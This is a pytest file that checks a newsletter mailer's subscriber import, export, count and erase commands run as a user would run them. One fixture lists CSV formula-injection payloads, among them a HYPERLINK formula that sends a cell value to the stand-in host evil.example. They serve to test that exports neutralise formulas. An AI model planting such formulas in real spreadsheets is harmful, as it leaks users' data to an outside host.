"""`infolettre subscribers import|export|count|erase` as a user runs them."""

from __future__ import annotations

import csv
import io
import re
import signal
import subprocess
import sys
import time

import pytest
from sqlalchemy import func, select

from mailer import db
from subscribers.models import Subscriber
from tests.support.webapp import infolettre_env


def run(env, *args):
    return subprocess.run(
        [sys.executable, "-m", "mailer", "subscribers", *args],
        env=env, capture_output=True, text=True, timeout=60,
    )


def test_import_export_count_erase(tmp_path):
    env = infolettre_env(tmp_path / "home")
    listing = tmp_path / "list.csv"
    listing.write_text(
        "email,language,name,consent_date,consent_source\n"
        "ann@example.org,fr,Ann,2024-03-01T10:00:00+01:00,salon Lyon\n"
        "bad@,fr,,,\n"
        "bob@example.org,en,\"Bob, Jr\",,\n"
        "cat@example.org,it,,,\n",
        encoding="utf-8",
    )
    first = run(env, "import", str(listing))
    assert first.returncode == 1, first.stderr
    assert "1 subscribed, 1 pending (no consent), 0 already" in first.stdout
    errors = first.stderr.splitlines()
    assert errors[0].startswith(f"{listing}:3: email:") and errors[1].startswith(f"{listing}:5:")
    second = run(env, "import", str(listing))
    assert "0 subscribed, 0 pending (no consent), 2 already" in second.stdout

    count = run(env, "count").stdout
    assert "pending       en               1" in count
    assert "subscribed    fr               1" in count

    exported = list(csv.DictReader(io.StringIO(run(env, "export").stdout)))
    assert [row["email"] for row in exported] == ["ann@example.org", "bob@example.org"]
    assert {"consent_at", "consent_source", "consent_ip", "status", "created_at"} <= set(
        exported[0]
    )
    assert exported[1]["name"] == "Bob, Jr" and exported[1]["status"] == "pending"

    erased = run(env, "erase", "ANN@example.org")
    assert erased.returncode == 0 and "erased" in erased.stdout
    assert "ann@example.org" not in run(env, "export").stdout
    # Suppressed: importing her again changes nothing.
    again = run(env, "import", str(listing)).stdout
    assert "0 subscribed, 0 pending (no consent), 2 already" in again


def test_a_file_without_email_column_is_a_clear_error(tmp_path):
    env = infolettre_env(tmp_path / "home")
    listing = tmp_path / "wrong.csv"
    listing.write_text("adresse;langue\nann@example.org;fr\n", encoding="utf-8")
    result = run(env, "import", str(listing))
    assert result.returncode == 2
    assert f"{listing}:1: unknown column 'adresse'" in result.stderr
    assert "rejected, nothing imported" in result.stderr
    assert "Traceback" not in result.stderr


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)", "+1+cmd",
            "-2+3", "'=already quoted", "Plain Name"]


@pytest.mark.parametrize("form", [[], ["--spreadsheet", "--separator", ";"]])
def test_export_neutralises_formulas_and_imports_back_to_the_same_text(tmp_path, form):
    source = infolettre_env(tmp_path / "source")
    listing = tmp_path / "list.csv"
    with listing.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["email", "name", "language", "consent_date"])
        for n, name in enumerate(FORMULAS):
            writer.writerow([f"p{n}@example.org", name, "fr", "2026-01-15 09:30"])
        writer.writerow(["-dash@example.org", "Dash", "en", ""])
    assert run(source, "import", str(listing)).returncode == 0
    exported = tmp_path / "export.csv"
    assert run(source, "export", "-o", str(exported), *form).returncode == 0
    text = exported.read_text(encoding="utf-8-sig")
    separator = ";" if form else ","
    rows = list(csv.DictReader(io.StringIO(text), delimiter=separator))
    # In the file, no cell a spreadsheet would run: each begins with a quote.
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r", cell
    assert rows[0]["consent_at"] == ("2026-01-15 09:30:00" if form else
                                     "2026-01-15T08:30:00+00:00")
    assert (exported.read_bytes().startswith(b"\xef\xbb\xbf")) == bool(form)

    target = infolettre_env(tmp_path / "target")
    result = run(target, "import", str(exported))
    assert result.returncode == 0, result.stderr
    assert "6 subscribed, 1 pending" in result.stdout
    back = list(csv.DictReader(io.StringIO(run(target, "export").stdout)))
    original = list(csv.DictReader(io.StringIO(run(source, "export").stdout)))
    keep = ("email", "name", "language", "status", "consent_at")
    assert [{k: r[k] for k in keep} for r in back] == [{k: r[k] for k in keep} for r in original]
    assert {r["bounce_score"] for r in back + original} == {"0"}  # was "0" and "0.0" mixed


def test_export_to_a_folder_that_does_not_exist_says_so(tmp_path):
    env = infolettre_env(tmp_path / "home")
    target = tmp_path / "missing" / "all.csv"
    result = run(env, "export", "-o", str(target))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert f"Could not open file '{target}': No such file or directory" in result.stderr


def test_export_to_dash_is_standard_output(tmp_path):
    # `-o -` wrote a file named "-" in the working folder.
    env = infolettre_env(tmp_path / "home")
    result = subprocess.run([sys.executable, "-m", "mailer", "subscribers", "export", "-o",
                             "-"], env=env, cwd=tmp_path, capture_output=True, text=True,
                            timeout=60)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("id,email,") and not (tmp_path / "-").exists()


def test_import_from_a_pipe(tmp_path):
    # `infolettre subscribers import /dev/stdin < list.csv` (or `import <(…)`) ended in a
    # traceback: "io.UnsupportedOperation: File or stream is not seekable".
    env = infolettre_env(tmp_path / "home")
    piped = subprocess.run(
        [sys.executable, "-m", "mailer", "subscribers", "import", "/dev/stdin"], env=env,
        input="email,language,name,consent_date\njosé@example.org,fr,José,2026-11-01\n"
              "bad@,fr,,\n",
        capture_output=True, text=True, timeout=60)
    assert "Traceback" not in piped.stderr
    assert piped.returncode == 1
    assert piped.stdout.startswith("/dev/stdin: 1 subscribed, 0 pending")
    assert piped.stderr.startswith("/dev/stdin:3: email:")


def test_import_refuses_a_device(tmp_path):
    # A pipe is copied to a file first: /dev/zero was copied till the disk was full.
    env = infolettre_env(tmp_path / "home")
    result = run(env, "import", "/dev/zero")
    assert (result.returncode, result.stderr) == (
        2, "/dev/zero: a device, not a file or a pipe: give the path of the CSV file\n")


def test_erase_refuses_what_is_no_address(tmp_path):
    # `subscribers erase ''` said " was not on the list; suppressed anyway" and suppressed
    # the hash of nothing; a mistyped address was suppressed just as quietly.
    from sqlalchemy import func, select

    from mailer import db
    from subscribers.models import Suppression

    env = infolettre_env(tmp_path / "home")
    for wrong in ("", "x y@example.org", "ann.example.org"):
        refused = run(env, "erase", wrong)
        assert refused.returncode == 2 and "Traceback" not in refused.stderr, wrong
        assert f"{wrong!r} is not an email address" in refused.stderr
        assert "nothing erased or suppressed" in refused.stderr
    with db.session_scope(env["INFOLETTRE_DATABASE_URL"]) as session:
        assert session.scalar(select(func.count()).select_from(Suppression)) == 0
    kept_out = run(env, "erase", "someone@example.org")  # not on the list: kept out
    assert kept_out.returncode == 0 and "suppressed anyway" in kept_out.stdout


def test_the_import_says_what_became_of_bounced_and_complained_rows(tmp_path):
    # A bounced row was counted as "kept unsubscribed", yet it is imported as bounced and
    # put on the suppression list.
    env = infolettre_env(tmp_path / "home")
    listing = tmp_path / "export.csv"
    listing.write_text("email,status\nb@example.org,bounced\nc@example.org,complained\n"
                       "u@example.org,unsubscribed\nv@example.org,unsubscribed\n")
    result = run(env, "import", str(listing))
    assert result.returncode == 0, result.stderr
    assert ", 2 kept unsubscribed, 1 kept as bounced and suppressed, 1 kept as complained "\
           "and suppressed, 0 rejected" in result.stdout, result.stdout
    only_bounced = tmp_path / "bounced.csv"
    only_bounced.write_text("email,status\nd@example.org,bounced\n")
    said = run(env, "import", str(only_bounced)).stdout
    assert "unsubscribed" not in said and "1 kept as bounced and suppressed" in said, said


def test_the_import_says_one_row_as_one(tmp_path):
    # "(1 rows, utf-8, …)": every count had a plural.
    env = infolettre_env(tmp_path / "home")
    said = {}
    for rows in (0, 1, 2, 1200):
        listing = tmp_path / f"{rows}.csv"
        listing.write_text("email,language\n" + "".join(
            f"p{rows}.{n}@example.org,fr\n" for n in range(rows)), encoding="utf-8")
        result = run(env, "import", str(listing))
        said[rows] = result.stdout.split("(")[-1]
    # Every count grouped alike: it said "1200 pending" beside "1,200 rows".
    assert ": 0 subscribed, 1,200 pending (no consent), 0 already" in result.stdout
    assert said == {0: "0 rows, UTF-8, separated by commas)\n",
                    1: "1 row, UTF-8, separated by commas)\n",
                    2: "2 rows, UTF-8, separated by commas)\n",
                    1200: "1,200 rows, UTF-8, separated by commas)\n"}, said


def test_ctrl_c_during_an_import_says_what_was_saved_and_the_same_import_completes_it(
        tmp_path):
    # Ctrl-C printed click's bare "Aborted!" with thousands of rows already committed.
    env = infolettre_env(tmp_path / "home")
    url = env["INFOLETTRE_DATABASE_URL"]
    rows = 40_000
    listing = tmp_path / "big.csv"
    listing.write_text("email,language\n" + "".join(
        f"p{n}@example.org,fr\n" for n in range(rows)), encoding="utf-8")

    def saved() -> int:
        try:
            with db.session_scope(url) as session:
                return session.scalar(select(func.count()).select_from(Subscriber))
        except Exception:  # the tables not made yet
            return 0

    importing = subprocess.Popen(
        [sys.executable, "-m", "mailer", "subscribers", "import", str(listing)],
        env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while saved() == 0 and importing.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)
    importing.send_signal(signal.SIGINT)
    _out, err = importing.communicate(timeout=60)
    assert importing.returncode == 130, err
    said = re.fullmatch(rf"{listing}: interrupted at line (\d+): ([\d,]+) rows saved, the "
                        r"rest not imported; import the same file again to complete it "
                        r"\(the rows saved are left as they are\)\n", err)
    assert said, err
    kept = int(said[2].replace(",", ""))
    assert 0 < kept < rows and kept == saved() and int(said[1]) == kept + 2
    again = run(env, "import", str(listing))
    assert again.returncode == 0, again.stderr
    assert f": 0 subscribed, {rows - kept:,} pending (no consent), {kept:,} already" \
        in again.stdout
    assert saved() == rows
